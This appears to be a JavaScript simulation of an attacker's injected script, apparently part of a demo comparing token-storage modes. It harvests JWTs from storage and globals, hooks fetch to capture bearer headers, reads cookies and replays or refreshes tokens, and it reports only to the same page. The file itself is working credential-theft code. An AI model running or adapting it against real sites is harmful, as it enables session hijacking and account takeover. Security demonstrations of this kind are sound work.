// What an attacker's script would be: a file of its own that knows nothing of this page's variables, names or modules.
// It reads what any script of the origin can read, and acts as whoever is signed in. It tells the page alone, and leaves nothing.
;(async () => {
  const tell = message => window.postMessage({ source: 'injected-script', ...message }, window.location.origin)

  const valuesOf = storage => Object.keys(storage).map(key => storage.getItem(key))

  // Every global, and what hangs on it, a few levels deep: what is in a module's own variables is not among them.
  function globalStrings() {
    const found = new Set()
    const visited = new Set([window, window.localStorage, window.sessionStorage])
    const walk = (value, depth) => {
      if (typeof value === 'string') {
        if (/^[\w.-]{32,}$/.test(value)) found.add(value)
        return
      }
      if ((typeof value !== 'object' && typeof value !== 'function') || value === null) return
      if (depth === 0 || visited.has(value) || visited.size > 50_000 || value instanceof Node) return
      visited.add(value)
      for (const name of Object.getOwnPropertyNames(value)) {
        const property = Object.getOwnPropertyDescriptor(value, name)
        if (property && 'value' in property) walk(property.value, depth - 1)
      }
    }
    for (const name of Object.getOwnPropertyNames(window)) {
      try {
        walk(window[name], 4)
      } catch {
        // Some globals refuse to be looked at.
      }
    }
    return [...found]
  }

  const found = {
    memory: globalStrings(),
    sessionStorage: valuesOf(window.sessionStorage),
    localStorage: valuesOf(window.localStorage),
  }

  // Whatever the page sends next goes through here first.
  const untouched = window.fetch
  const overheard = new Promise(resolve => {
    window.setTimeout(() => resolve(null), 3000)
    window.fetch = (input, init) => {
      // The page goes on watching its wire meanwhile; what it sends as the person is what is waited for.
      if (input === '/api/wire') return untouched(input, init)
      window.fetch = untouched
      const headers = new Headers(init?.headers ?? (input instanceof Request ? input.headers : undefined))
      const authorization = headers.get('authorization')
      resolve(authorization?.replace(/^bearer /i, '') ?? null)
      return untouched(input, init)
    }
    tell({ type: 'listening' })
  })
  const heard = await overheard
  window.fetch = untouched

  const requests = []
  async function send(by, line, headers) {
    const [method, path] = line.split(' ')
    const response = await untouched(path, { method, headers, cache: 'no-store' })
    const body = await response.json().catch(() => ({}))
    requests.push({ by, line, status: response.status, name: response.ok ? (body.name ?? body.user?.name ?? null) : null })
    return body
  }

  await send('cookie', 'GET /api/me', { 'Auth-Mode': 'session' })
  const stolen = [...found.sessionStorage, ...found.localStorage, ...found.memory].find(text => /^eyJ[\w-]+\.[\w-]+\.[\w-]+$/.test(text))
  if (stolen) await send('found', 'GET /api/me', { 'Auth-Mode': 'token', Authorization: `Bearer ${stolen}` })
  const { access_token: fresh } = await send('refreshed', 'POST /api/token/refresh', { 'Auth-Mode': 'token' })
  if (fresh) await send('refreshed', 'GET /api/me', { 'Auth-Mode': 'token', Authorization: `Bearer ${fresh}` })

  // What this browser does is told on the wire, to whatever asks from this origin: it listens for a moment.
  async function listenToWire() {
    let text = ''
    const signal = AbortSignal.timeout(1500)
    const response = await untouched('/api/wire', { cache: 'no-store', signal }).catch(() => null)
    requests.push({ by: 'listened', line: 'GET /api/wire', status: response?.status ?? 0, name: null })
    const decoder = new TextDecoder()
    const reader = response?.body?.getReader()
    try {
      for (let read = await reader?.read(); read && !read.done; read = await reader.read())
        text += decoder.decode(read.value, { stream: true })
    } catch {
      // The moment is over.
    }
    return [...new Set(text.match(/eyJ[\w-]+\.[\w-]+\.[\w-]+/g) ?? [])]
  }

  const told = await listenToWire()
  const last = told.at(-1)
  if (last) await send('wire', 'GET /api/me', { 'Auth-Mode': 'token', Authorization: `Bearer ${last}` })

  tell({ type: 'done', report: { found, cookies: document.cookie, requests, overheard: heard, onWire: told.length } })
})()
